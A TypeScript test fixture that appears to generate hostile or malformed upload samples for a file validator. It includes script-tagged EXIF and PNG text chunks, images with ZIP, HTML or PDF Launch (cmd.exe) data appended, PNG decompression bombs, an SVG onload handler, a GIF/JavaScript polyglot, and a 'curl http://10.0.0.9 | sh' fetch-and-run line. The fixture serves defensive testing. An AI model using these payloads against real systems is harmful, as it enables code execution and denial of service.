import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { bytesOf } from './raw-pdf.ts';

const chunk = (type: string, content: Buffer): Buffer => {
  const body = bytesOf(type, content);
  const numbers = Buffer.alloc(8);
  numbers.writeUInt32BE(content.length, 0);
  numbers.writeUInt32BE(crc32(body), 4);
  return bytesOf(numbers.subarray(0, 4), body, numbers.subarray(4));
};

const png = (side: number, content: Buffer, ...chunks: readonly Buffer[]): Buffer => {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.writeUInt8(8, 8);
  const end = chunk('IEND', Buffer.alloc(0));
  return bytesOf('\x89PNG\r\n\x1a\n', chunk('IHDR', head), ...chunks, chunk('IDAT', content), end);
};

const pixels = sharp({ create: { width: 600, height: 800, channels: 3, background: '#446688' } });
const jpeg = await pixels.jpeg().toBuffer();
const webp = await pixels.webp().toBuffer();
const withExif = await pixels
  .withExif({
    IFD0: { Make: '<script>alert(1)</script>', ImageDescription: 'x'.repeat(50_000) },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '4/1 35/1 56/1' },
  })
  .jpeg()
  .toBuffer();
const rows = deflateSync(Buffer.alloc(300 * 301));

/** Pictures with something else in or behind them, and files that are neither picture nor PDF. */
export const otherFiles: Readonly<Record<string, Buffer>> = {
  'photo with its place and a script': withExif,
  'photo with an archive behind it': bytesOf(jpeg, 'PK\x03\x04', 'evil.exe', Buffer.alloc(64)),
  'photo with a web page behind it': bytesOf(jpeg, '<html><script>alert(1)</script></html>'),
  'photo with a PDF behind it': bytesOf(jpeg, '%PDF-1.7\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj'),
  'half a photo': jpeg.subarray(0, jpeg.length / 2),
  'photo in name only': bytesOf('\xff\xd8\xff', '<script>alert(1)</script>'),
  'PNG of 2,500 million points': png(50_000, deflateSync(Buffer.alloc(20_000_000))),
  'PNG with a script in its text': png(
    300,
    rows,
    chunk('tEXt', bytesOf('Comment\0<script>alert(1)</script>')),
  ),
  'PNG with text without end': png(
    300,
    rows,
    chunk('zTXt', bytesOf('a\0\0', deflateSync(Buffer.alloc(100_000_000)))),
  ),
  'half a PNG': png(300, rows).subarray(0, 60),
  'half a WebP': webp.subarray(0, 60),
  'web page': bytesOf('<!doctype html><script>alert(1)</script>'),
  drawing: bytesOf('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  'GIF that is a script': bytesOf('GIF89a/*', Buffer.alloc(20), '*/=1;alert(1)'),
  archive: bytesOf('PK\x03\x04\x14\x00', 'evil.exe', Buffer.alloc(64)),
  TIFF: bytesOf('II*\0\x08\0\0\0', Buffer.alloc(64)),
  BMP: bytesOf('BM', Buffer.alloc(64)),
  'photo of an iPhone': bytesOf('\0\0\0\x18ftypheic', Buffer.alloc(64)),
  'program of Windows': bytesOf('MZ\x90\0', Buffer.alloc(64)),
  'program of Linux': bytesOf('\x7fELF', Buffer.alloc(64)),
  'shell script': bytesOf('#!/bin/sh\ncurl http://10.0.0.9 | sh\n'),
  'letter with macros': bytesOf('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(512)),
  'nothing but zeros': Buffer.alloc(1_000),
};
